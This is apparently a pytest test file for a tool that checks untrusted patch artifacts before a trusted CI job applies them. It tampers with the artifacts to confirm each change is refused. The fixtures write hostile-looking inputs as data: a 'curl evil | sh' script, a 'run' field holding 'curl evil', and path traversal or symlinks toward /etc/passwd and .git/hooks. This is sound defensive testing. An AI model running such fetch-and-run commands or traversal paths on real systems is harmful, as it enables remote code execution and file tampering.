"""The patch artifact: written by a run that cannot push, read by a trusted job that must treat
every byte of it as hostile. Real patches from git; tampering as an attacker would do it."""

from __future__ import annotations

import hashlib
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from autoheal.errors import AutohealError, InputError
from autoheal.git import Git
from autoheal.git.apply import commit_onto, tree_changes
from autoheal.git.patch import parse_patch
from autoheal.modes.heal.artifact import (
    MAX_MANIFEST_BYTES,
    Artifact,
    applied_refusals,
    patch_refusals,
    read_artifact,
    write_artifact,
)
from tests.gitfixtures import git, make_repo
from tests.patch_helpers import Link, commit_edits, diff_of

HEAD = "a" * 40
FIELDS: dict[str, Any] = {
    "repository": "octo/app",
    "pull_request": 7,
    "base_sha": "b" * 40,
    "head_sha": HEAD,
    "head_repository": "someone/app-fork",
    "head_ref": "fix/thing",
}
FILES = {
    "app.py": "x = 1\ny = 2\nz = 3\n",
    "README.md": "# demo\n",
    ".github/workflows/ci.yml": "on: push\n",
    "pic.png": "not really a png\n",
}
AUTHOR = ("autoheal", "autoheal@example.com")
MB = 1024 * 1024


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_repo(tmp_path, files=FILES).work


@pytest.fixture
def fix(repo: Path) -> str:
    """A fix as heal makes it: two files changed."""
    return diff_of(repo, {"app.py": "x = 1\ny = 20\nz = 3\nw = 4\n", "README.md": "# Demo\n"})


def _artifact(patch: str) -> Artifact:
    return Artifact(
        folder=Path("unused"),
        patch_text=patch,
        patch_bytes=len(patch.encode()),
        patch_sha256=hashlib.sha256(patch.encode()).hexdigest(),
        patches=tuple(parse_patch(patch)),
        **FIELDS,
    )


def _refusals(patch: str, *, max_diff_lines: int = 1000, allow_binary: bool = False) -> str:
    found = patch_refusals(
        _artifact(patch), max_diff_lines=max_diff_lines, allow_binary=allow_binary
    )
    return "\n".join(found)


# ------------------------------------------------------------------------------------ round trip


def test_written_artifact_reads_back_with_every_field(tmp_path: Path, fix: str) -> None:
    folder = write_artifact(tmp_path / "autoheal-fix", fix, **FIELDS)
    assert sorted(os.listdir(folder)) == ["fix.patch", "manifest.json"]
    data = (folder / "fix.patch").read_bytes()
    manifest = json.loads((folder / "manifest.json").read_text())
    assert manifest == {
        "format": 1,
        **FIELDS,
        "files": [
            {"path": "README.md", "added": 1, "deleted": 1},
            {"path": "app.py", "added": 2, "deleted": 1},
        ],
        "patch_bytes": len(data),
        "patch_sha256": hashlib.sha256(data).hexdigest(),
    }
    artifact = read_artifact(folder, max_patch_bytes=MB)
    assert artifact.patch_text == fix and data == fix.encode()
    assert (artifact.repository, artifact.pull_request, artifact.head_sha) == ("octo/app", 7, HEAD)
    assert (artifact.head_repository, artifact.head_ref) == ("someone/app-fork", "fix/thing")
    assert [p.path for p in artifact.patches] == ["README.md", "app.py"]
    assert patch_refusals(artifact, max_diff_lines=5, allow_binary=False) == []


def test_writing_refuses_what_reading_would_refuse(tmp_path: Path, fix: str) -> None:
    with pytest.raises(InputError, match="head_sha is not a 40-character hex sha"):
        write_artifact(tmp_path / "a", fix, **{**FIELDS, "head_sha": "HEAD"})
    assert not (tmp_path / "a").exists()
    (tmp_path / "b").mkdir()
    (tmp_path / "b" / "other.txt").write_text("x")
    with pytest.raises(AutohealError, match=r"already holds other files \(other.txt\)"):
        write_artifact(tmp_path / "b", fix, **FIELDS)
    with pytest.raises(AutohealError, match="cannot be written as an artifact"):
        write_artifact(tmp_path / "c", "not a patch\n", **FIELDS)


# ------------------------------------------------------------------------------------ tampering


def _manifest(folder: Path) -> dict[str, Any]:
    result: dict[str, Any] = json.loads((folder / "manifest.json").read_text())
    return result


def _set(**changes: Any) -> Callable[[Path], None]:
    def tamper(folder: Path) -> None:
        manifest = _manifest(folder)
        manifest.update(changes)
        (folder / "manifest.json").write_text(json.dumps(manifest))

    return tamper


def _raw_manifest(text: str) -> Callable[[Path], None]:
    def tamper(folder: Path) -> None:
        (folder / "manifest.json").write_text(text)

    return tamper


def _patch_bytes(change: Callable[[bytes], bytes], *, reseal: bool) -> Callable[[Path], None]:
    """Change the patch; with `reseal`, fix size and digest too (the attacker writes both)."""

    def tamper(folder: Path) -> None:
        data = change((folder / "fix.patch").read_bytes())
        (folder / "fix.patch").write_bytes(data)
        if reseal:
            _set(patch_bytes=len(data), patch_sha256=hashlib.sha256(data).hexdigest())(folder)

    return tamper


def _files(change: Callable[[list[dict[str, Any]]], None]) -> Callable[[Path], None]:
    def tamper(folder: Path) -> None:
        files = _manifest(folder)["files"]
        change(files)
        _set(files=files)(folder)

    return tamper


def _symlinked(name: str) -> Callable[[Path], None]:
    def tamper(folder: Path) -> None:
        real = folder.parent / f"elsewhere-{name}"
        (folder / name).rename(real)
        (folder / name).symlink_to(real)

    return tamper


def _extra_file(folder: Path) -> None:
    (folder / "run.sh").write_text("curl evil | sh\n")


def _missing(folder: Path) -> None:
    (folder / "manifest.json").unlink()


def _fifo(folder: Path) -> None:
    (folder / "fix.patch").unlink()
    os.mkfifo(folder / "fix.patch")  # opened for reading, a FIFO would block forever


def _deep(levels: int) -> str:
    return '{"format": ' + "[" * levels + "]" * levels + "}"


TAMPERING: list[tuple[str, Callable[[Path], None], str]] = [
    ("digest", _set(patch_sha256="0" * 64), "does not match the manifest's sha256"),
    (
        "patch-edited-same-size",
        _patch_bytes(lambda d: d.replace(b"+y = 20", b"+y = 99"), reseal=False),
        "does not match the manifest's sha256",
    ),
    ("byte-count", _set(patch_bytes=3), "bytes, but the manifest says 3."),
    (
        "patch-grown",
        _patch_bytes(lambda d: d + b"more\n", reseal=False),
        "but the manifest says",
    ),
    (
        "file-list-hides-a-file",
        _files(lambda f: f.pop(0)),
        "the patch changes 'README.md', which the manifest does not list",
    ),
    (
        "file-list-invents-a-file",
        _files(lambda f: f.append({"path": "other.py", "added": 1, "deleted": 0})),
        "the manifest lists 'other.py', which the patch does not change",
    ),
    (
        "file-list-lies-about-counts",
        _files(lambda f: f[1].update(added=1)),
        "the manifest says 'app.py' has 1 added and 1 deleted lines; the patch has 2 and 1",
    ),
    (
        "resealed-patch-touches-another-file",
        _patch_bytes(lambda d: d.replace(b"README.md", b"READYOU.md"), reseal=True),
        "the manifest lists 'README.md', which the patch does not change",
    ),
    (
        "resealed-patch-smuggles-a-second-patch",
        _patch_bytes(lambda d: d + b"--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", reseal=True),
        "looks like part of a patch outside any `diff --git` section",
    ),
    (
        "resealed-patch-not-utf8",
        _patch_bytes(lambda d: d.replace(b"Demo", b"D\xffmo"), reseal=True),
        "fix.patch is not UTF-8 text",
    ),
    ("extra-file", _extra_file, "it holds 'run.sh', which an autoheal artifact never has"),
    ("missing-manifest", _missing, "manifest.json is missing"),
    ("symlinked-manifest", _symlinked("manifest.json"), "manifest.json is a symbolic link"),
    ("symlinked-patch", _symlinked("fix.patch"), "fix.patch is a symbolic link"),
    ("fifo-patch", _fifo, "fix.patch is not a regular file"),
    (
        "huge-manifest",
        _raw_manifest(" " * MAX_MANIFEST_BYTES + "{}"),
        f"manifest.json has {MAX_MANIFEST_BYTES + 2} bytes, more than the",
    ),
    ("bad-sha", _set(head_sha="abc123"), "head_sha is not a 40-character hex sha"),
    ("uppercase-sha", _set(base_sha="A" * 40), "base_sha is not a 40-character hex sha"),
    ("sha-not-a-string", _set(head_sha=None), "head_sha is not a 40-character hex sha"),
    (
        "dotdot-path",
        _files(lambda f: f[0].update(path="../outside.md")),
        "files[0].path is not a relative path inside the repository",
    ),
    (
        "absolute-path",
        _files(lambda f: f[0].update(path="/etc/passwd")),
        "files[0].path is not a relative path",
    ),
    ("git-dir-path", _files(lambda f: f[0].update(path=".git/config")), "files[0].path"),
    ("files-not-objects", _set(files=["app.py"]), "files[0] is not an object of exactly"),
    ("no-files", _set(files=[]), "files is not a non-empty list"),
    ("repository-shape", _set(repository="octo/app/../x"), "repository is not an owner/name"),
    ("head-repository-shape", _set(head_repository=""), "head_repository is not an owner/name"),
    ("branch-option", _set(head_ref="-x"), "head_ref is not a branch name"),
    ("branch-dotdot", _set(head_ref="a..b"), "head_ref is not a branch name"),
    ("pr-bool", _set(pull_request=True), "pull_request is not a positive whole number"),
    ("pr-zero", _set(pull_request=0), "pull_request is not a positive whole number"),
    ("pr-float", _set(pull_request=7.0), "pull_request is not a positive whole number"),
    ("negative-count", _files(lambda f: f[0].update(added=-1)), "added and deleted must be"),
    ("format-2", _set(format=2), "is not of format 1"),
    ("unknown-field", _set(run="curl evil"), "has the unknown field 'run'"),
    ("missing-field", _raw_manifest('{"format": 1}'), "lacks the field 'repository'"),
    ("not-an-object", _raw_manifest("[1, 2]"), "manifest.json is not a JSON object"),
    ("not-json", _raw_manifest("{'format': 1}"), "manifest.json cannot be read"),
    ("deep-nesting", _raw_manifest(_deep(100)), "nested more than 64 levels"),
    ("huge-number", _raw_manifest('{"pull_request": 1' + "0" * 5000 + "}"), "5001 digits"),
    ("nan", _raw_manifest('{"pull_request": NaN}'), "NaN is not a JSON number"),
    ("manifest-not-utf8", lambda f: (f / "manifest.json").write_bytes(b"\xff{}"), "not UTF-8"),
]


@pytest.mark.parametrize(
    ("tamper", "message"), [(t, m) for _, t, m in TAMPERING], ids=[i for i, _, _ in TAMPERING]
)
def test_every_tampering_is_refused_with_a_clear_message(
    tmp_path: Path, fix: str, tamper: Callable[[Path], None], message: str
) -> None:
    folder = write_artifact(tmp_path / "autoheal-fix", fix, **FIELDS)
    read_artifact(folder, max_patch_bytes=MB)  # sound before the tampering
    tamper(folder)
    with pytest.raises(InputError) as caught:
        read_artifact(folder, max_patch_bytes=MB)
    error = caught.value
    assert error.exit_code == 2
    assert str(error).startswith(f"Patch artifact {folder}: ")
    assert message in error.message
    assert "Use the artifact heal wrote for this pull request's head, unchanged" in error.fix


def test_a_patch_over_the_size_limit_is_refused_before_it_is_read(tmp_path: Path, fix: str) -> None:
    folder = write_artifact(tmp_path / "autoheal-fix", fix, **FIELDS)
    size = (folder / "fix.patch").stat().st_size
    assert read_artifact(folder, max_patch_bytes=size).patch_bytes == size
    with pytest.raises(InputError, match=f"fix.patch has {size} bytes, more than the {size - 1}"):
        read_artifact(folder, max_patch_bytes=size - 1)


def test_a_missing_folder_or_a_file_instead_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="the folder does not exist"):
        read_artifact(tmp_path / "nothing", max_patch_bytes=MB)
    (tmp_path / "file").write_text("x")
    with pytest.raises(InputError, match="it is not a folder"):
        read_artifact(tmp_path / "file", max_patch_bytes=MB)


# ------------------------------------------------------------------------------------ refusals


def test_a_workflow_file_is_refused(repo: Path) -> None:
    patch = diff_of(repo, {".github/workflows/ci.yml": "on: pull_request_target\n"})
    refusals = _refusals(patch)
    assert "The patch changes workflow files (`.github/workflows/ci.yml`" in refusals
    assert "`workflows` permission" in refusals


@pytest.mark.parametrize(
    ("old", "new"),
    [(".github/workflows/ci.yml", "ci.yml"), ("README.md", ".github/workflows/new.yml")],
    ids=["out-of-workflows", "into-workflows"],
)
def test_a_rename_is_judged_by_both_names(repo: Path, old: str, new: str) -> None:
    patch = diff_of(repo, {}, moves={old: new})
    assert f"rename from {old}" in patch
    refusals = _refusals(patch)
    assert "The patch changes workflow files" in refusals
    assert ".github/workflows/" in refusals


def test_a_binary_file_is_refused_unless_allowed_and_then_counts_by_size(repo: Path) -> None:
    patch = diff_of(repo, {"pic.png": bytes(range(256)) * 20})  # 5120 bytes
    assert "GIT binary patch" in patch
    refused = _refusals(patch)
    assert "The patch changes 1 binary file(s): `pic.png` (5.0 KB)" in refused
    assert "set `allow-binary-changes: true`" in refused
    assert _refusals(patch, allow_binary=True, max_diff_lines=52) == ""
    too_big = _refusals(patch, allow_binary=True, max_diff_lines=51)
    assert "The patch changes 52 lines, more than `max-diff-lines` (51)" in too_big
    assert "binary file(s)" not in too_big


def test_a_symbolic_link_or_a_submodule_is_refused(repo: Path) -> None:
    link = diff_of(repo, {"docs": Link("/etc")})
    assert "new file mode 120000" in link
    assert "`docs` (a symbolic link)" in _refusals(link)
    sha = git(repo, "rev-parse", "HEAD").strip()
    git(repo, "update-index", "--add", "--cacheinfo", f"160000,{sha},vendor/lib")
    submodule = git(repo, "diff", "--cached", "HEAD")
    git(repo, "reset", "-q")
    assert "new file mode 160000" in submodule
    assert "`vendor/lib` (a submodule)" in _refusals(submodule)


def test_more_lines_than_max_diff_lines_are_refused(repo: Path) -> None:
    patch = diff_of(repo, {"app.py": "".join(f"v{n} = {n}\n" for n in range(27))})
    # 27 added, 3 deleted: 30 lines, counted like heal's own limit.
    assert _refusals(patch, max_diff_lines=30) == ""
    refused = _refusals(patch, max_diff_lines=29)
    assert "The patch changes 30 lines, more than `max-diff-lines` (29)" in refused


def test_a_long_line_counts_by_its_size(repo: Path) -> None:
    patch = diff_of(repo, {"README.md": "# demo\n" + "x" * 4999 + "\n"})
    refused = _refusals(patch, max_diff_lines=49)
    assert "The patch changes 50 lines" in refused  # one line of 5000 bytes


FORGED_PATH_PATCH = (
    "diff --git a/{0} b/{0}\nnew file mode 100644\n--- /dev/null\n+++ b/{0}\n@@ -0,0 +1 @@\n+x\n"
)


@pytest.mark.parametrize(
    ("path", "why"),
    [
        ("../outside", "climbs out with `..`"),
        (".git/hooks/post-checkout", "is inside `.git`"),
        ("sub/.GIT/config", "is inside `.git`"),
        ("a//b", "has an empty or `.` component"),
    ],
    ids=["dotdot", "git-dir", "git-dir-any-case", "empty-component"],
)
def test_paths_outside_the_tree_are_refused(path: str, why: str) -> None:
    refused = _refusals(FORGED_PATH_PATCH.format(path))
    assert f"The patch writes outside the repository's files: `{path}` {why}" in refused


def test_an_absolute_path_is_refused() -> None:
    patch = FORGED_PATH_PATCH.format("/etc/cron.d/x")
    [only] = parse_patch(patch)
    assert only.path == "/etc/cron.d/x"
    assert "`/etc/cron.d/x` is absolute" in _refusals(patch)


# ------------------------------------------------------------------------------------ applied


def test_what_git_made_of_a_sound_patch_passes(repo: Path, fix: str) -> None:
    head = git(repo, "rev-parse", "HEAD").strip()
    new = commit_onto(Git(repo), head, fix, message="fix", author=AUTHOR)
    changes = tree_changes(Git(repo), head, new)
    assert [c.path for c in changes] == ["README.md", "app.py"]
    assert applied_refusals(_artifact(fix), changes) == []


def test_a_patch_for_another_commit_that_applies_at_an_offset_is_refused(repo: Path) -> None:
    lines = [f"v{n} = {n}\n" for n in range(12)]
    commit_edits(repo, {"app.py": "".join(lines)}, "longer")
    patch = diff_of(repo, {"app.py": "".join([*lines[:6], "v6 = 60\n", *lines[7:]])})
    head = commit_edits(repo, {"app.py": "import os\n" + "".join(lines)}, "moved down")
    new = commit_onto(Git(repo), head, patch, message="fix", author=AUTHOR)  # git: fine
    refused = "\n".join(applied_refusals(_artifact(patch), tree_changes(Git(repo), head, new)))
    assert "The patch was made against other contents of `app.py`" in refused


def test_a_hunk_on_an_existing_link_is_caught_once_applied(repo: Path) -> None:
    commit_edits(repo, {"link": Link("README.md")}, "a link")
    head = git(repo, "rev-parse", "HEAD").strip()
    patch = diff_of(repo, {"link": Link("/etc/passwd")})
    forged = patch.replace(" 120000\n", "\n")  # the mode is the only sign of a link
    assert "120000" not in forged and _refusals(forged) == ""
    new = commit_onto(Git(repo), head, forged, message="fix", author=AUTHOR)
    refused = "\n".join(applied_refusals(_artifact(forged), tree_changes(Git(repo), head, new)))
    assert "Applied, the patch changes a symbolic link, submodule or workflow file (`link`)" in (
        refused
    )


def test_a_file_the_patch_names_but_git_leaves_as_it_was_is_caught(repo: Path, fix: str) -> None:
    head = git(repo, "rev-parse", "HEAD").strip()
    # The README hunk now removes and adds the same line: a change in name only.
    hollow = fix.replace("+# Demo\n", "+# demo\n")
    assert [p.path for p in parse_patch(hollow)] == ["README.md", "app.py"]
    new = commit_onto(Git(repo), head, hollow, message="fix", author=AUTHOR)
    changes = tree_changes(Git(repo), head, new)
    assert [c.path for c in changes] == ["app.py"]
    refused = "\n".join(applied_refusals(_artifact(hollow), changes))
    assert "Applied, the patch changes other files than it names (`README.md`)" in refused
